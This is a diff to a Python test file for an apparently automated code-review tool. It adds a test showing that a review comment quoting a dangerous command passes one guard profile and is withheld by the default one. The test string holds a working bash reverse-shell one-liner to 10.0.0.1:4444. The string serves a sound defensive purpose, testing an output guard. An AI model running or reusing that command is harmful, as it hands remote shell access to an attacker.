@@ -77,6 +77,8 @@ class ScriptedReviewer:
 
     def __init__(self, limit: int = 1_000_000) -> None:
         self.limit = limit
+        self.body = ""
+        """When set, every comment's body."""
         self.busy = 0
         """Answer this many next requests with 429 and Retry-After: 0, as a rate-limited server does."""
         self.requests: list[dict] = []
@@ -97,7 +99,7 @@ class ScriptedReviewer:
         comments = []
         for path, numbers in shown.items():
             if numbers:
-                comments.append({"path": path, "line": min(numbers), "severity": "error", "body": f"First line of {path}."})
+                comments.append({"path": path, "line": min(numbers), "severity": "error", "body": self.body or f"First line of {path}."})
                 comments.append({"path": path, "line": max(numbers) + 2, "severity": "warning", "body": f"Just past {path}."})
                 comments.append({"path": path, "line": 9999, "severity": "error", "body": "Far away."})
         comments.append({"path": "nope.py", "line": 1, "severity": "error", "body": "No such file."})
@@ -183,6 +185,17 @@ def test_a_rate_limited_call_is_asked_again_after_retry_after(repo: Path, tmp_pa
     run = review(tmp_path, "--base", "main", "--repo", str(repo), "--format", "json", "--no-lint", config=scripted_config(root))
     data = json.loads(run.stdout)
     assert data["failures"] == [] and len(data["comments"]) == 4 and len(scripted.requests) == 3 and scripted.busy == 0
+
+
+def test_a_comment_quoting_a_dangerous_command_passes_the_review_guard_profile_but_not_the_default(repo: Path, tmp_path: Path, reviewer):
+    scripted, root = reviewer
+    scripted.body = "This opens a reverse shell: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 must go."
+    args = ("--base", "main", "--repo", str(repo), "--format", "json", "--no-lint")
+    kept = json.loads(review(tmp_path, *args, config=scripted_config(root)).stdout)
+    assert kept["failures"] == [] and any("/dev/tcp/10.0.0.1/4444" in c["body"] for c in kept["comments"])
+    blocked = review(tmp_path, *args, config=scripted_config(root, 'guard_profile = "default"\n'))
+    data = json.loads(blocked.stdout)
+    assert blocked.returncode == 3 and "withheld the answer" in data["failures"][0] and data["comments"] == []
 
 
 def test_an_unreachable_gateway_is_incomplete_and_bad_input_is_a_usage_error(repo: Path, tmp_path: Path):
